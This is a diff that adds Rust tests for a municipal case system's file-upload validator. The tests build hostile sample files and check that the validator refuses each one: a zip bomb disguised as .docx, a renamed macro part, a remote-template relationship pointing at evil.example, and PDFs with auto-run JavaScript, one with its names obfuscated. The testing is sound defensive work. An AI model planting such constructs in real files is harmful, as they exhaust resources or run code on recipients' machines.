@@ -240,3 +240,75 @@ mod http_details {
         assert!(sent.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&sent));
     }
 }
+
+mod uploads {
+    use std::io::Write;
+
+    use serde_json::Value;
+
+    use crate::{case_support::*, document_support::*, harness::*, on_both_databases};
+
+    fn deflated_zip(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
+        let mut out = std::io::Cursor::new(Vec::new());
+        {
+            let mut z = zip::ZipWriter::new(&mut out);
+            let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+            for (name, content) in entries {
+                z.start_file(*name, opts).unwrap();
+                z.write_all(content).unwrap();
+            }
+            z.finish().unwrap();
+        }
+        out.into_inner()
+    }
+
+    fn word(extra: &[(&str, Vec<u8>)], content_types: &str, rels: &str) -> Vec<u8> {
+        let mut entries = vec![
+            ("[Content_Types].xml", content_types.as_bytes().to_vec()),
+            ("_rels/.rels", b"<Relationships/>".to_vec()),
+            ("word/document.xml", b"<w:document/>".to_vec()),
+            ("word/_rels/document.xml.rels", rels.as_bytes().to_vec()),
+        ];
+        entries.extend(extra.iter().cloned());
+        deflated_zip(&entries)
+    }
+
+    async fn refusal(t: &TestApp, case: &str, name: &str, bytes: Vec<u8>) -> String {
+        let res = upload(t, "demo-gemeente", case, BEWIJS, Some((name, bytes))).await;
+        let p: Value = assert_problem(res, 400).await;
+        assert_eq!(invalid_fields(&p), ["file"], "{p}");
+        format!(
+            "{} | {}",
+            p["errors"][0]["message"].as_str().unwrap(),
+            p["errors"][0]["message_nl"].as_str().unwrap()
+        )
+    }
+
+    on_both_databases! {
+        async fn containers_and_pdfs_are_judged_by_their_structure_not_their_names(t: TestApp) {
+            let case = case_in_mediation(&t).await;
+            // 512 MiB of zeros in 0.5 MB, named .docx.
+            let bomb = word(&[("word/media/filler.bin", vec![0u8; 300 * 1024 * 1024])], "<Types/>", "<Relationships/>");
+            assert!(bomb.len() < 1024 * 1024, "{}", bomb.len());
+            assert!(refusal(&t, &case, "verslag.docx", bomb).await.contains("zip bomb"));
+            // A macro part renamed, still declared as one.
+            let renamed = word(&[("word/harmless.xml", b"Attribute VB_Name".to_vec())],
+                r#"<Types><Override PartName="/word/harmless.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#,
+                "<Relationships/>");
+            assert!(refusal(&t, &case, "brief.docx", renamed).await.contains("macros"));
+            // A remote template.
+            let remote = word(&[], "<Types/>", r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#);
+            assert!(refusal(&t, &case, "brief.docx", remote).await.contains("remote template"));
+            // A PDF that runs JavaScript on opening, plainly and with its names escaped.
+            for open in ["/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "/OpenAction << /S /J#61vaScript /J#53 (x) >>"] {
+                let js = format!("%PDF-1.4\n1 0 obj << /Type /Catalog {open} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+                let why = refusal(&t, &case, "verzoek.pdf", js.into_bytes()).await;
+                assert!(why.contains("JavaScript") && why.contains("Een pdf met JavaScript"), "{why}");
+            }
+            // A real document with a hyperlink, compressed as Word does, is fine; nothing else was stored.
+            let fine = word(&[], "<Types/>", r#"<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.vng.nl/" TargetMode="External"/></Relationships>"#);
+            upload_ok(&t, "demo-gemeente", &case, BEWIJS, ("brief.docx", fine)).await;
+            assert_eq!(stored_files(&t).len(), 1);
+        }
+    }
+}
